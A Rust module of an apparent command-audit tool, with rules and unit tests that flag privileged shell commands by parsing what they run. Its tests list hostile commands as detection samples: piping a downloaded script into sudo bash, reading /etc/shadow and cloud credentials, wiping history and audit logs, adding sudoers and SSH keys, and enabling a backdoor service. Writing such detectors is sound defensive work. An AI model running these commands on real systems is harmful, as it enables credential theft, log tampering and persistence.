//! Privileged-command rules: which commands an auditor must look at, matched on what a command
//! runs (programs, their arguments, pipelines, redirections), never on substrings of its text,
//! so `grep -w sudo` and `printf '... cat /etc/shadow'` match nothing.
//!
//! The rules are data: `indexer/rules/privileged.json` is built in, and users add or replace
//! rules (by id) with their own file in the same format.

use crate::error::{Error, Result};
use crate::shellwords::{self, SimpleCommand};
use serde::{Deserialize, Serialize};

/// The built-in rules.
pub const DEFAULT_RULES: &str = include_str!("../rules/privileged.json");

/// One rule. A command matches when any one of the conditions given holds for it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Rule {
    /// Stable id, used in `rule` fields and to replace a built-in rule.
    pub id: String,
    /// What it means, for people.
    pub title: String,
    /// `high`, `medium` or `low`.
    pub severity: crate::kinds::Severity,
    /// Any of these programs runs (past wrappers: `sudo -u x passwd` runs `passwd`). When
    /// `subcommands` or `options` are given too, one of them must also be its argument.
    #[serde(default)]
    pub programs: Vec<String>,
    /// With `programs`: the first argument that is not an option is one of these.
    #[serde(default)]
    pub subcommands: Vec<String>,
    /// With `programs`: one of these options is given.
    #[serde(default)]
    pub options: Vec<String>,
    /// An argument of any program is one of these paths (`*` matches within the word).
    #[serde(default)]
    pub paths: Vec<String>,
    /// With `paths`: only when the program is one of these.
    #[serde(default)]
    pub path_programs: Vec<String>,
    /// Output or input is redirected to one of these paths.
    #[serde(default)]
    pub redirect_paths: Vec<String>,
    /// Any word (URLs, hosts) matches one of these.
    #[serde(default)]
    pub words: Vec<String>,
    /// These words appear in this order as one simple command (`history -c`).
    #[serde(default)]
    pub sequences: Vec<Vec<String>>,
    /// A variable assignment of one of these forms (`HISTFILE=*`).
    #[serde(default)]
    pub assignments: Vec<String>,
    /// A pipeline runs one of `pipe_from` and, later, one of `pipe_to`.
    #[serde(default)]
    pub pipe_from: Vec<String>,
    /// See `pipe_from`.
    #[serde(default)]
    pub pipe_to: Vec<String>,
    /// The command starts an interactive root shell.
    #[serde(default)]
    pub root_shell: bool,
}

/// A set of rules.
#[derive(Debug, Clone)]
pub struct Rules(Vec<Rule>);

impl Rules {
    /// The built-in rules.
    pub fn builtin() -> Rules {
        Rules(serde_json::from_str(DEFAULT_RULES).expect("the built-in rules parse"))
    }

    /// The built-in rules with those of a user's file added (a rule with a built-in id replaces it).
    pub fn with_file(path: &std::path::Path) -> Result<Rules> {
        let text = std::fs::read_to_string(path)?;
        let extra: Vec<Rule> = serde_json::from_str(&text).map_err(|e| Error::Corrupt {
            kind: "rules file",
            reason: format!("{}: {e}", path.display()),
        })?;
        let mut rules = Self::builtin();
        for r in extra {
            if r.id.is_empty() {
                return Err(Error::Corrupt {
                    kind: "rules file",
                    reason: format!("{}: a rule without an id", path.display()),
                });
            }
            rules.0.retain(|old| old.id != r.id);
            rules.0.push(r);
        }
        Ok(rules)
    }

    /// The rules.
    pub fn all(&self) -> &[Rule] {
        &self.0
    }

    /// Ids of the rules a command line matches, in rule order.
    pub fn matches(&self, command: &str) -> Vec<String> {
        let pipelines = shellwords::pipelines(command);
        // A shell reading a pipe (`curl … | sudo bash`) is not an interactive one.
        let alone = pipelines.len() == 1 && pipelines[0].len() == 1;
        let root_shell = alone
            && matches!(
                shellwords::transition(command),
                Some(shellwords::Transition::Enter(Some(ref u))) if u == "root"
            );
        self.0
            .iter()
            .filter(|r| {
                (r.root_shell && root_shell) || pipelines.iter().any(|p| r.matches_pipeline(p))
            })
            .map(|r| r.id.clone())
            .collect()
    }
}

impl Rule {
    fn matches_pipeline(&self, pipeline: &[SimpleCommand]) -> bool {
        if !self.pipe_from.is_empty() {
            let from = pipeline
                .iter()
                .position(|c| programs(c).iter().any(|p| self.pipe_from.contains(p)));
            if let Some(i) = from {
                if pipeline[i + 1..]
                    .iter()
                    .any(|c| programs(c).iter().any(|p| self.pipe_to.contains(p)))
                {
                    return true;
                }
            }
        }
        pipeline.iter().any(|c| self.matches_command(c))
    }

    fn matches_command(&self, c: &SimpleCommand) -> bool {
        let progs = programs(c);
        let args = arguments(c);
        if !self.programs.is_empty() {
            for (i, p) in progs.iter().enumerate() {
                if !self.programs.contains(p) {
                    continue;
                }
                if self.subcommands.is_empty() && self.options.is_empty() {
                    return true;
                }
                let own = args_of(c, &progs, i);
                let sub = own.iter().find(|a| !a.starts_with('-'));
                if sub.is_some_and(|s| self.subcommands.contains(s)) {
                    return true;
                }
                if own.iter().any(|a| self.options.contains(a)) {
                    return true;
                }
            }
        }
        if !self.paths.is_empty()
            && (self.path_programs.is_empty()
                || progs.iter().any(|p| self.path_programs.contains(p)))
            && args.iter().any(|a| self.paths.iter().any(|g| glob(g, a)))
        {
            return true;
        }
        if c.redirects
            .iter()
            .any(|t| self.redirect_paths.iter().any(|g| glob(g, t)))
        {
            return true;
        }
        if !self.words.is_empty()
            && c.words
                .iter()
                .any(|w| self.words.iter().any(|g| glob(g, w)))
        {
            return true;
        }
        if self
            .sequences
            .iter()
            .any(|s| contains_sequence(&c.words, s))
        {
            return true;
        }
        c.words
            .iter()
            .take_while(|w| is_assignment(w))
            .any(|w| self.assignments.iter().any(|g| glob(g, w)))
            || (!self.assignments.is_empty()
                && c.words.first().is_some_and(|w| w == "export")
                && c.words[1..]
                    .iter()
                    .any(|w| self.assignments.iter().any(|g| glob(g, w))))
    }
}

fn is_assignment(w: &str) -> bool {
    w.find('=').is_some_and(|p| {
        p > 0
            && w[..p]
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '_')
    })
}

/// The programs of a simple command (past assignments and wrappers).
fn programs(c: &SimpleCommand) -> Vec<String> {
    shellwords::programs_of(&c.words)
}

/// Every word after the command's first program.
fn arguments(c: &SimpleCommand) -> Vec<String> {
    let start = c
        .words
        .iter()
        .position(|w| !is_assignment(w))
        .map_or(c.words.len(), |i| i + 1);
    c.words[start..].to_vec()
}

/// The arguments of the `i`-th program of the chain: the words after it, up to the next program.
fn args_of(c: &SimpleCommand, progs: &[String], i: usize) -> Vec<String> {
    let base = |w: &str| w.rsplit('/').next().unwrap_or(w).to_string();
    let mut seen = 0;
    let mut out = Vec::new();
    let mut collecting = false;
    for w in &c.words {
        if is_assignment(w) && !collecting && seen == 0 {
            continue;
        }
        if seen < progs.len() && base(w) == progs[seen] && (seen == 0 || !w.starts_with('-')) {
            collecting = seen == i;
            seen += 1;
            if seen > i + 1 {
                break;
            }
            continue;
        }
        if collecting {
            out.push(w.clone());
        }
    }
    out
}

fn contains_sequence(words: &[String], seq: &[String]) -> bool {
    if seq.is_empty() {
        return false;
    }
    let mut it = seq.iter();
    let mut want = it.next();
    for w in words {
        let base = w.rsplit('/').next().unwrap_or(w);
        if want.is_some_and(|s| s == w || s == base) {
            want = it.next();
            if want.is_none() {
                return true;
            }
        }
    }
    false
}

/// `*` matches any run of characters (including `/`); everything else matches itself.
fn glob(pattern: &str, text: &str) -> bool {
    let p: Vec<char> = pattern.chars().collect();
    let t: Vec<char> = text.chars().collect();
    let (mut pi, mut ti) = (0, 0);
    let (mut star, mut mark) = (None, 0);
    while ti < t.len() {
        if pi < p.len() && p[pi] == '*' {
            star = Some(pi);
            mark = ti;
            pi += 1;
        } else if pi < p.len() && p[pi] == t[ti] {
            pi += 1;
            ti += 1;
        } else if let Some(s) = star {
            pi = s + 1;
            mark += 1;
            ti = mark;
        } else {
            return false;
        }
    }
    while pi < p.len() && p[pi] == '*' {
        pi += 1;
    }
    pi == p.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn privileged_commands_match_on_what_runs() {
        let r = Rules::builtin();
        let cases: &[(&str, &[&str])] = &[
            ("sudo id", &["privilege-elevation"]),
            ("sudo su -", &["privilege-elevation", "root-shell"]),
            ("sudo -i", &["privilege-elevation", "root-shell"]),
            (
                "sudo cat /etc/shadow",
                &["privilege-elevation", "credential-files"],
            ),
            ("tail -n1 /etc/shadow", &["credential-files"]),
            (
                "sudo grep -c root /etc/sudoers",
                &["privilege-elevation", "sudoers-pam"],
            ),
            ("cat /home/ec2-user/.aws/credentials", &["credential-files"]),
            (
                "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                &["instance-metadata"],
            ),
            (
                "curl -fsSL https://example.com/i.sh | sudo bash",
                &["privilege-elevation", "download-and-execute"],
            ),
            ("history -c", &["history-tampering"]),
            ("unset HISTFILE", &["history-tampering"]),
            ("export HISTFILE=/dev/null", &["history-tampering"]),
            (
                "sudo rm -rf /var/log/audit/audit.log",
                &["privilege-elevation", "audit-tampering"],
            ),
            ("> /var/log/secure", &["audit-tampering"]),
            (
                "sudo auditctl -D",
                &["privilege-elevation", "audit-tampering"],
            ),
            (
                "sudo yum install -y nmap",
                &["privilege-elevation", "packages"],
            ),
            (
                "sudo systemctl enable --now backdoor.service",
                &["privilege-elevation", "persistence-systemd"],
            ),
            (
                "echo 'ssh-ed25519 AAAA' >> /root/.ssh/authorized_keys",
                &["ssh-access"],
            ),
            ("cat id.pub >> ~/.ssh/authorized_keys2", &["ssh-access"]),
            (
                "echo 'x ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers.d/x",
                &["privilege-elevation", "sudoers-pam"],
            ),
            ("vi ~/.ssh/authorized_keys", &["ssh-access"]),
            ("sudo iptables -F", &["privilege-elevation", "firewall"]),
            ("useradd -m mallory", &["accounts"]),
        ];
        for (cmd, want) in cases {
            assert_eq!(r.matches(cmd), *want, "{cmd}");
        }
    }

    #[test]
    fn mentions_and_quotes_do_not_match() {
        let r = Rules::builtin();
        for cmd in [
            "grep -w sudo /etc/group",
            "printf '[root@ip-10-20-1-5 ~]# cat /etc/shadow\\n'",
            "echo \"sudo rm -rf /var/log\"",
            "man sudoers",
            "yum list installed",
            "systemctl status sshd",
            "ls /var/log",
            "cat /etc/passwd",
        ] {
            assert_eq!(r.matches(cmd), Vec::<String>::new(), "{cmd}");
        }
    }

    #[test]
    fn globs() {
        assert!(glob("/etc/sudoers.d/*", "/etc/sudoers.d/90-cloud"));
        assert!(glob("*/.aws/credentials", "/root/.aws/credentials"));
        assert!(!glob("/etc/shadow", "/etc/shadow.bak"));
        assert!(glob("169.254.169.254*", "169.254.169.254/latest"));
    }

    #[test]
    fn user_rules_add_and_replace() {
        let dir = std::env::temp_dir().join(format!("rules-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let f = dir.join("r.json");
        std::fs::write(
            &f,
            r#"[{"id":"db-client","title":"Database clients","severity":"low","programs":["psql","mysql"]},
                {"id":"packages","title":"none","severity":"low"}]"#,
        )
        .unwrap();
        let r = Rules::with_file(&f).unwrap();
        assert_eq!(r.matches("psql -h db"), ["db-client"]);
        assert_eq!(r.matches("sudo yum install x"), ["privilege-elevation"]);
        std::fs::write(
            &f,
            r#"[{"id":"x","title":"t","severity":"low","program":["a"]}]"#,
        )
        .unwrap();
        assert!(Rules::with_file(&f).is_err());
        // A severity that is not one of the three is refused, naming the file and the word.
        std::fs::write(
            &f,
            r#"[{"id":"x","title":"t","severity":"critical","programs":["a"]}]"#,
        )
        .unwrap();
        let e = Rules::with_file(&f).unwrap_err().to_string();
        assert!(e.contains("r.json") && e.contains("critical"), "{e}");
    }
}
